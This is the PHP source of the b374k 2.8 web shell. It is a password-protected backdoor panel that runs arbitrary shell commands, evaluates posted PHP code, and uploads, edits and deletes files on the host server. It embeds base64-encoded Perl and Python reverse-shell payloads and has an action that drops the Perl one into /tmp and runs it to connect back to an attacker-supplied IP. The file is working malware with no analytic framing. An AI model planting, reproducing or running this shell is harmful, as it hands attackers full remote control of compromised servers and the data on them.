<?php
/*
	b374k 2.8
	Jayalah Indonesiaku
*/
$s_name = "b374k";
$s_ver = "2.8";
$s_title = $s_name . " " . $s_ver;
$s_pass = "0de664ecd2be02cdd54234a0d1229b43b0fc4bdf";
$s_auth = false;
@ob_start();
@set_time_limit(0);
@ini_set('html_errors', '0');
@clearstatcache();
define('DS', DIRECTORY_SEPARATOR);
if (!empty($s_pass)) {
    if (isset($_COOKIE['b374k']) && ($_COOKIE['b374k'] == $s_pass)) { $s_auth = true; }
    if (isset($_REQUEST['login'])) {
        $s_login = sha1(trim($_REQUEST['login']));
        if ($s_login == $s_pass) { setcookie("b374k", $s_login, time() + 3600 * 24 * 7); $s_auth = true; }
    }
    if (isset($_REQUEST['x']) && ($_REQUEST['x'] == 'logout')) { setcookie("b374k", "", time() - 3600); $s_auth = false; }
} else { $s_auth = true; }
$s_rs_pl = "dXNlIFNvY2tldDskaT0kQVJHVlswXTskcD0kQVJHVlsxXTtzb2NrZXQoUyxQRl9JTkVULFNPQ0tfU1RSRUFNLGdldHByb3RvYnluYW1lKCd0Y3AnKSk7aWYoY29ubmVjdChTLHNvY2thZGRyX2luKCRwLGluZXRfYXRvbigkaSkpKSl7b3BlbihTVERJTiwnPiZTJyk7b3BlbihTVERPVVQsJz4mUycpO29wZW4oU1RERVJSLCc+JlMnKTtleGVjKCcvYmluL3NoIC1pJyk7fTs=";
$s_rs_py = "aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zLHN5cwpzPXNvY2tldC5zb2NrZXQoc29ja2V0LkFGX0lORVQsc29ja2V0LlNPQ0tfU1RSRUFNKQpzLmNvbm5lY3QoKHN5cy5hcmd2WzFdLGludChzeXMuYXJndlsyXSkpKQpvcy5kdXAyKHMuZmlsZW5vKCksMCk7b3MuZHVwMihzLmZpbGVubygpLDEpO29zLmR1cDIocy5maWxlbm8oKSwyKQpzdWJwcm9jZXNzLmNhbGwoWycvYmluL3NoJywnLWknXSkK";
function s_exe($s_c) {
    $s_out = "";
    $s_c = $s_c . " 2>&1";
    if (is_callable('system')) { ob_start(); @system($s_c); $s_out = ob_get_contents(); ob_end_clean(); if (!empty($s_out)) { return $s_out; } }
    if (is_callable('shell_exec')) { $s_out = @shell_exec($s_c); if (!empty($s_out)) { return $s_out; } }
    if (is_callable('exec')) { @exec($s_c, $s_r); if (!empty($s_r)) { foreach ($s_r as $s_s) { $s_out .= $s_s; } } if (!empty($s_out)) { return $s_out; } }
    if (is_callable('passthru')) { ob_start(); @passthru($s_c); $s_out = ob_get_contents(); ob_end_clean(); if (!empty($s_out)) { return $s_out; } }
    if (is_callable('proc_open')) {
        $s_descriptorspec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
        $s_proc = @proc_open($s_c, $s_descriptorspec, $s_pipes, getcwd(), array());
        if (is_resource($s_proc)) { while ($s_si = fgets($s_pipes[1])) { if (!empty($s_si)) { $s_out .= $s_si; } } fclose($s_pipes[0]); fclose($s_pipes[1]); proc_close($s_proc); }
        if (!empty($s_out)) { return $s_out; }
    }
    if (is_callable('popen')) { $s_f = @popen($s_c, 'r'); if ($s_f) { while (!feof($s_f)) { $s_out .= fread($s_f, 2096); } pclose($s_f); } }
    return $s_out;
}
function s_showdir($s_cwd) {
    $s_fname = array(); $s_dname = array();
    if ($s_dh = @opendir($s_cwd)) {
        while ($s_file = @readdir($s_dh)) { if (is_dir($s_cwd . $s_file)) { $s_dname[] = $s_file; } elseif (is_file($s_cwd . $s_file)) { $s_fname[] = $s_file; } }
        closedir($s_dh);
    }
    natcasesort($s_fname); natcasesort($s_dname);
    $s_buff = "<table class='explore sortable'><tr><th>name</th><th>size</th><th>owner:group</th><th>perms</th><th>modified</th><th>action</th></tr>";
    foreach (array_merge($s_dname, $s_fname) as $s_f) {
        $s_buff .= "<tr><td><a href='?d=" . urlencode($s_cwd . $s_f) . "'>" . htmlspecialchars($s_f) . "</a></td><td>" . @filesize($s_cwd . $s_f) . "</td><td></td><td>" . substr(sprintf('%o', @fileperms($s_cwd . $s_f)), -4) . "</td><td>" . @date("d-M-Y H:i", filemtime($s_cwd . $s_f)) . "</td><td><a href='?x=edit&f=" . urlencode($s_cwd . $s_f) . "'>edit</a> | <a href='?x=del&f=" . urlencode($s_cwd . $s_f) . "'>del</a></td></tr>";
    }
    return $s_buff . "</table>";
}
if (!$s_auth) {
    echo "<html><head><title>" . $s_title . "</title></head><body><form method='post'><input type='password' name='login'><input type='submit' value='&gt;'></form></body></html>";
    die();
}
$s_cwd = isset($_GET['d']) ? $_GET['d'] : getcwd();
if (substr($s_cwd, -1) != DS) { $s_cwd .= DS; }
$s_result = "";
if (isset($_REQUEST['cmd'])) { $s_result .= "<pre>" . htmlspecialchars(s_exe($_REQUEST['cmd'])) . "</pre>"; }
elseif (isset($_GET['x']) && $_GET['x'] == 'eval' && isset($_REQUEST['evalcode'])) { ob_start(); eval($_REQUEST['evalcode']); $s_result .= htmlspecialchars(ob_get_clean()); }
elseif (isset($_GET['x']) && $_GET['x'] == 'upload' && isset($_FILES['upl'])) { foreach ($_FILES['upl']['name'] as $s_i => $s_n) { @move_uploaded_file($_FILES['upl']['tmp_name'][$s_i], $s_cwd . $s_n); } }
elseif (isset($_GET['x']) && $_GET['x'] == 'edit' && isset($_POST['fc'])) { @file_put_contents($_GET['f'], $_POST['fc']); }
elseif (isset($_GET['x']) && $_GET['x'] == 'del') { @unlink($_GET['f']); }
elseif (isset($_GET['x']) && $_GET['x'] == 'rs' && isset($_POST['rs_ip'])) {
    @file_put_contents("/tmp/b374k_rs.pl", base64_decode($s_rs_pl));
    $s_result .= s_exe("perl /tmp/b374k_rs.pl " . $_POST['rs_ip'] . " " . $_POST['rs_port'] . " &");
}
else { $s_result .= s_showdir($s_cwd); }
echo "<html><head><title>" . $s_title . "</title></head><body><div id='header'><a href='?'>" . $s_title . "</a> | " . php_uname() . "</div>";
echo "<div id='menu'><a href='?x=eval'>eval</a> | <a href='?x=upload'>upload</a> | <a href='?x=rs'>rs</a> | <a href='?x=logout'>logout</a></div>";
echo $s_result;
echo "<form method='get'><input name='cmd' style='width:80%'><input type='submit' value='&gt;'></form></body></html>";
?>
